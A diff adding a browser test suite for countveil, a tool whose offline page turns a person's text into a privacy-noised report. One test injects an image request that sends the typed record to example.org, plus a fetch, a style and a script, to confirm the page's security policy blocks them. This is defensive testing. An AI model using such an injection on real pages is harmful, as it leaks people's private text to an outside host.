@@ -1,0 +1,408 @@
+"""The page in a browser: what a person does with it, and what must never happen."""
+
+import json
+import random
+import time
+
+import numpy as np
+import pytest
+
+import countveil as cv
+from countveil.audit import statistics
+from countveil.collect import collect
+from countveil.page import page, tables
+from countveil.privacy import PrivacyLevel, counting, report, study
+from tests.page import browser as b
+from tests.page.scripts import TWINS
+
+WORDS = [
+    *("surprise", "party", "cake", "candles", "balloon", "invite"),
+    *("budget", "meeting", "report", "deadline", "invoice", "agenda"),
+]
+LEVELS = [PrivacyLevel(1, 10), PrivacyLevel(5, 10), PrivacyLevel(3, 1)]
+TEXT = "A surprise party! Cake, candles; the SURPRISE party’s at ten: ΟΔΟΣ, İstanbul."
+
+
+def planned(title="Offices", words=WORDS, levels=LEVELS, **more):
+    return study.new(title, "To learn.", "a@b.org", levels, [("word", words)], **more)
+
+
+STUDY = planned()
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory):
+    return tmp_path_factory.mktemp("browser")
+
+
+@pytest.fixture(scope="module")
+def file(folder):
+    path = folder / "study.html"
+    path.write_text(page(STUDY), encoding="utf-8")
+    return path
+
+
+@pytest.fixture(scope="module")
+def shared(folder):
+    with b.browser(folder) as driver:
+        yield driver
+
+
+@pytest.fixture
+def driver(shared, file):
+    """The page just opened; the ledger is that of the tests before, so that each needs a record of its own."""
+    shared.get_log("performance")
+    b.opened(shared, file)
+    return shared
+
+
+def test_text_in_report_out_and_not_a_request(driver, folder):
+    made = b.report_of(driver, TEXT, "first")
+    assert "5 in the study's 12 categories, of which 4 are above zero" in b.at(driver, "counted").text
+    counted = counting.count_text(TEXT, WORDS)
+    assert f"{counted.outside} ({counted.outside_kinds} different)" in b.at(driver, "counted").text
+    found = report.decode(made, STUDY, "shown")
+    assert found.level == LEVELS[0]
+    assert b.downloaded(driver, folder) == made
+    asked = [url for url in b.requests(driver) if not url.startswith("blob:")]
+    assert asked == [file_url(folder)]
+    assert driver.get_log("browser") == []
+
+
+def file_url(folder):
+    return (folder / "study.html").as_uri()
+
+
+def test_a_hundred_reports_are_collected_and_fitted(driver, tmp_path):
+    generator = random.Random(2)
+    b.chosen(driver, 2)
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    for number in range(100):
+        theme = WORDS[:6] if number % 2 else WORDS[6:]
+        made = b.report_of(driver, " ".join(generator.choices(theme, k=60)), f"person {number}")
+        (inbox / f"{number:03}.json").write_bytes(made)
+    output = tmp_path / "release.npz"
+    done = collect(STUDY, sorted(inbox.iterdir()), output, tmp_path / "table.csv")
+    assert (done.accepted, done.refused) == (100, 0)
+    model = cv.TopicModel(n_topics=2, seed=1, n_draws=200, n_tune=200, n_chains=1, n_threads=1)
+    words = model.fit(cv.Release.load(output)).top_words(6)
+    assert {frozenset(named(topic)) for topic in words} == {frozenset(WORDS[:6]), frozenset(WORDS[6:])}
+
+
+def named(topic):
+    return [word if isinstance(word, str) else word[0] for word in topic]
+
+
+def test_one_record_has_one_report_through_reload_and_crash(driver, file, folder):
+    made = b.report_of(driver, TEXT, "steady")
+    assert b.report_of(driver, "another text", "steady") == made
+    b.opened(driver, file)
+    assert b.report_of(driver, TEXT, "steady") == made
+    assert "no noise was drawn" in b.at(driver, "made").text
+    assert b.report_of(driver, TEXT, "somebody else") != made
+    for trial in range(8):
+        name = f"crash {trial}"
+        b.entered(driver, "name", name)
+        b.entered(driver, "record", TEXT)
+        b.press(driver, "count")
+        driver.execute_script(
+            "document.getElementById('make').click(); const until = performance.now() + arguments[0];"
+            "setTimeout(() => location.reload(), arguments[0]);",
+            trial,
+        )
+        time.sleep(0.3)
+        b.until(driver, lambda: b.at(driver, "ledger").text)
+        before = stored(driver, file)
+        made = b.report_of(driver, TEXT, name)
+        assert b.report_of(driver, TEXT, name) == made
+        after = stored(driver, file)
+        assert len(after) - len(before) <= 1
+        assert after.count(made.decode()) == 1
+
+
+def stored(driver, file):
+    """The reports in the ledger, read beside the page."""
+    return b.evaluated(
+        driver,
+        """new Promise((resolve, reject) => {
+          const request = indexedDB.open("countveil-ledger", 1);
+          request.onerror = reject;
+          request.onsuccess = () => {
+            const all = request.result.transaction("releases").objectStore("releases").getAll();
+            all.onsuccess = () => { request.result.close(); resolve(all.result.map((entry) => entry.report)); };
+          };
+        })""",
+    )
+
+
+def test_two_tabs_at_once_draw_once(driver, file):
+    first = driver.current_window_handle
+    driver.switch_to.new_window("tab")
+    second = driver.current_window_handle
+    b.opened(driver, file)
+    try:
+        for trial in range(6):
+            for tab in (first, second):
+                driver.switch_to.window(tab)
+                b.entered(driver, "name", f"twins {trial}")
+                b.entered(driver, "record", TEXT)
+                b.press(driver, "count")
+            start = time.time() * 1000 + 250
+            for tab in (first, second):
+                driver.switch_to.window(tab)
+                driver.execute_script(
+                    "setTimeout(() => document.getElementById('make').click(), arguments[0] - Date.now())",
+                    start,
+                )
+            seen = []
+            for tab in (first, second):
+                driver.switch_to.window(tab)
+                seen.append(b.shown_report(driver))
+            assert seen[0] == seen[1]
+            assert stored(driver, file).count(seen[0].decode()) == 1
+    finally:
+        driver.switch_to.window(second)
+        driver.close()
+        driver.switch_to.window(first)
+
+
+def test_fresh_noise_is_on_purpose_and_limited(driver, folder):
+    name = "limited"
+    made = b.report_of(driver, TEXT, name)
+    b.downloaded(driver, folder)
+    b.chosen(driver, 1)
+    assert b.report_of(driver, TEXT, name) is None
+    assert "released in this study already" in b.said(driver)
+    b.chosen(driver, 0)
+    assert b.report_of(driver, TEXT, name) == made
+    assert not b.at(driver, "anew").is_enabled()
+    b.press(driver, "sure")
+    b.press(driver, "anew")
+    b.until(driver, lambda: "Set a limit below" in b.said(driver))
+    limited(driver, "2", "10")
+    assert "epsilon 2 at N = 10" in b.at(driver, "limit-now").text
+    b.press(driver, "anew")
+    b.until(driver, lambda: "adds up to epsilon 2 at N = 10" in b.at(driver, "made").text)
+    fresh = b.shown_report(driver)
+    assert fresh != made
+    assert report.decode(fresh, STUDY, "fresh").participant == report.decode(made, STUDY, "made").participant
+    (folder / "down" / f"report-{report.decode(made, STUDY, 'made').participant[:8]}.json").unlink()
+    assert b.downloaded(driver, folder) == fresh
+    assert b.report_of(driver, TEXT, name) == fresh
+    b.press(driver, "sure")
+    b.press(driver, "anew")
+    b.until(driver, lambda: "to epsilon 3 at N = 10; it stands at 2, and your limit is 2" in b.said(driver))
+    assert stored(driver, None).count(fresh.decode()) == 1
+
+
+def limited(driver, epsilon, precision):
+    b.entered(driver, "limit-epsilon", epsilon)
+    b.entered(driver, "limit-precision", precision)
+    b.press(driver, "limit")
+    b.until(driver, lambda: b.at(driver, "limit-now").text.startswith("All"))
+
+
+def test_the_policy_blocks_what_is_injected(driver):
+    driver.execute_script("""
+      window.blocked = [];
+      document.addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.effectiveDirective));
+      const image = document.createElement("img");
+      image.src = "https://example.org/" + encodeURIComponent(document.getElementById("record").value);
+      document.body.append(image);
+      const style = document.createElement("style");
+      style.append("body { display: none }");
+      document.body.append(style);
+      fetch("https://example.org/").catch(() => {});
+    """)
+    b.evaluated(
+        driver,
+        """(() => { const script = document.createElement("script");
+        try { script.text = "window.injected = true"; document.body.append(script); } catch (error) {
+          window.blocked.push("trusted types: " + error.name); } })()""",
+    )
+    b.until(driver, lambda: len(driver.execute_script("return window.blocked")) >= 4)
+    blocked = driver.execute_script("return window.blocked")
+    for directive in ("img-src", "style-src-elem", "connect-src"):
+        assert directive in blocked
+    assert any("script" in one or "trusted" in one for one in blocked)
+    assert driver.execute_script("return window.injected === undefined")
+    assert not any("example.org" in url for url in loaded(driver))
+    driver.get_log("browser")
+
+
+def loaded(driver):
+    """Addresses from which something came or to which something went."""
+    return driver.execute_script("return performance.getEntriesByType('resource').map((e) => e.name)")
+
+
+def test_nothing_of_the_script_can_be_reached(driver):
+    names = ("Sampler", "entropy", "Ledger", "DATA", "privatized", "sha256", "Words", "counts", "say")
+    for name in names:
+        assert b.evaluated(driver, f"typeof {name}") == "undefined"
+
+
+COUNTING = """
+  window.asked = { chance: 0, bytes: 0 };
+  const chance = Math.random, values = crypto.getRandomValues.bind(crypto);
+  Math.random = () => { window.asked.chance++; return chance(); };
+  Crypto.prototype.getRandomValues = function (bytes) { window.asked.bytes += bytes.byteLength; return values(bytes); };
+"""
+
+
+def test_every_bit_of_noise_is_from_the_system(tmp_path):
+    good, bad = tmp_path / "good.html", tmp_path / "bad.html"
+    good.write_text(page(STUDY), encoding="utf-8")
+    wrong = good.read_text().replace(
+        "crypto.getRandomValues(bytes.subarray(start, start + 65536))",
+        "bytes.subarray(start, start + 65536).forEach((_, i, some) => { some[i] = 256 * Math.random(); })",
+    )
+    bad.write_text(wrong.replace("Content-Security-Policy", "x-none"), encoding="utf-8")
+    asked = []
+    with b.browser(tmp_path) as driver:
+        driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": COUNTING})
+        for path in (good, bad):
+            b.opened(driver, path)
+            before = b.evaluated(driver, "window.asked")
+            b.report_of(driver, TEXT, path.name)
+            after = b.evaluated(driver, "window.asked")
+            asked.append({key: after[key] - before[key] for key in after})
+    assert asked[0] == {"chance": 0, "bytes": 8 * len(WORDS)}
+    assert asked[1]["chance"] == 8 * len(WORDS)
+
+
+DRAWS = """(() => {
+  %s
+  const entropy = (size) => {
+    const bytes = new Uint8Array(size);
+    for (let i = 0; i < size; i += 65536) crypto.getRandomValues(bytes.subarray(i, i + 65536));
+    return bytes;
+  };
+  const sampler = new Sampler({ num: %dn, den: %dn }, thresholds("%s"));
+  const large = 1n << 60n, counts = new Array(%d).fill(large);
+  const noisy = privatized(counts, sampler, false, entropy);
+  return noisy.map((value) => Number(%s)).join(" ");
+})()"""
+SIZE = 1_000_000
+EXACT = "value - large"
+FLOATS = "BigInt(Number(large) + Number(value - large)) - large"
+
+
+def noise_in(driver, rate, told=None, value=EXACT, size=SIZE):
+    text = tables.thresholds(told or rate)
+    code = DRAWS % (TWINS, rate.numerator, rate.denominator, text, size, value)
+    return np.array(b.evaluated(driver, code).split(), dtype=np.int64)
+
+
+def verdict(draws, rate):
+    """The smallest of the audit's probabilities: the whole law, its scale, its last bits, its two sides, reuse."""
+    seen = statistics.histogram([draws], float(rate), len(draws))
+    rate = float(rate)
+    return {
+        "law": statistics.chi_square(seen, rate),
+        "tail": statistics.magnitude(seen, rate),
+        "bits": statistics.last_bits(seen, rate),
+        "sides": statistics.one_sidedness(seen),
+    }
+
+
+@pytest.mark.parametrize("level", LEVELS, ids=repr)
+def test_a_million_draws_in_the_browser_follow_the_law(driver, level):
+    found = verdict(noise_in(driver, level.rate), level.rate)
+    assert min(found.values()) > statistics.CRITICAL, found
+
+
+def test_the_statistics_reject_planted_faults(driver):
+    rate = LEVELS[1].rate
+    wrong = PrivacyLevel("5.1", 10).rate
+    with_floats = verdict(noise_in(driver, rate, value=FLOATS), rate)
+    assert with_floats["bits"] < statistics.CRITICAL
+    narrow = noise_in(driver, wrong)
+    found = verdict(narrow, rate)
+    assert found["law"] < statistics.CRITICAL
+    assert found["tail"] < statistics.CRITICAL
+    assert verdict(np.abs(narrow), wrong)["sides"] < statistics.CRITICAL
+
+
+def test_every_step_by_keyboard(driver, folder):
+    from selenium.webdriver.common.keys import Keys
+
+    def tab_to(name):
+        for _ in range(80):
+            driver.switch_to.active_element.send_keys(Keys.TAB)
+            if driver.switch_to.active_element.get_attribute("id") == name:
+                return driver.switch_to.active_element
+        raise AssertionError(f"no way to {name} by keyboard")
+
+    b.entered(driver, "name", "keys")
+    b.at(driver, "form-text").click()
+    tab_to("record").send_keys("party party")
+    tab_to("count").send_keys(Keys.ENTER)
+    b.until(driver, lambda: b.at(driver, "counted").text)
+    assert driver.switch_to.active_element.get_attribute("id") == "counted"
+    tab_to("party").send_keys(Keys.SPACE)
+    assert b.at(driver, "party").get_attribute("aria-expanded") == "true"
+    assert '"surprise party" five times' in b.at(driver, "example").text
+    tab_to("make").send_keys(Keys.ENTER)
+    b.until(driver, lambda: driver.find_elements("id", "download"))
+    tab_to("download").send_keys(Keys.ENTER)
+    b.until(driver, lambda: "Saved as" in b.said(driver))
+
+
+@pytest.mark.parametrize(("width", "dark"), [(1400, False), (390, True), (390, False)])
+def test_nothing_serious_for_a_screen_reader_and_nothing_cut_off(file, tmp_path, width, dark):
+    axe = pytest.importorskip("axe_core_python", reason="needs axe-core-python to check accessibility")
+    source = next(iter(axe.__path__)) + "/axe.min.js"
+    with b.browser(tmp_path, width, dark) as driver:
+        b.opened(driver, file)
+        b.report_of(driver, TEXT)
+        b.press(driver, "party")
+        b.downloaded(driver, tmp_path)
+        b.press(driver, "make")
+        b.until(driver, lambda: driver.find_elements("id", "anew"))
+        assert driver.execute_script("return document.documentElement.scrollWidth") <= width
+        with open(source, encoding="utf-8") as code:
+            b.evaluated(driver, code.read() + "; 0")
+        found = b.evaluated(driver, "axe.run().then((found) => JSON.stringify(found.violations))")
+    violations = json.loads(found)
+    assert not [
+        (v["id"], v["nodes"][0]["html"][:200]) for v in violations if v["impact"] in ("serious", "critical")
+    ]
+
+
+def test_counts_filled_in_one_by_one_and_as_rows(folder, shared):
+    axes = [("receiver", ["Ann", "Bob, jr"]), ("day", ["Mon", "Tue", "Wed"])]
+    quiet = [PrivacyLevel(1000, 1)]
+    made = study.new("Mail", "To learn.", "a@b.org", quiet, axes, kind=study.CATEGORIES, truncated=False)
+    path = folder / "cells.html"
+    path.write_text(page(made), encoding="utf-8")
+    b.opened(shared, path)
+    assert not b.at(shared, "form-text").is_displayed()
+    inputs = shared.find_elements("css selector", "#cells input")
+    assert [field.get_attribute("aria-label") for field in inputs][3] == "Bob, jr / Mon"
+    for place, field in enumerate(inputs):
+        field.clear()
+        field.send_keys(str(place * 2**60))
+    b.press(shared, "count")
+    b.until(shared, lambda: "whole number from 0 to 2^62" in b.said(shared))
+    inputs[5].clear()
+    inputs[5].send_keys("5")
+    b.press(shared, "count")
+    b.until(shared, lambda: b.at(shared, "counted").text)
+    b.press(shared, "make")
+    values = report.decode(b.shown_report(shared), made, "cells").values
+    assert values == [0, 2**60, 2**61, 3 * 2**60, 2**62, 5]
+    b.press(shared, "form-counts")
+    found = b.report_of(shared, 'receiver,day,count\n"Bob, jr",Tue,7\nAnn,Mon,2\nAnn,Sun,9', "rows")
+    assert report.decode(found, made, "rows").values == [2, 0, 0, 0, 7, 0]
+
+
+def test_a_page_of_ten_thousand_words_is_small_enough(folder, shared):
+    words = [f"wörd{n:05}" if n % 9 == 0 else f"word{n:05}" for n in range(10_000)]
+    made = planned("Large", words)
+    path = folder / "large.html"
+    path.write_text(page(made), encoding="utf-8")
+    assert path.stat().st_size < 300_000
+    b.opened(shared, path)
+    found = report.decode(b.report_of(shared, "word00001 WÖRD00009 " * 50, "large"), made, "large")
+    assert len(found.values) == 10_000
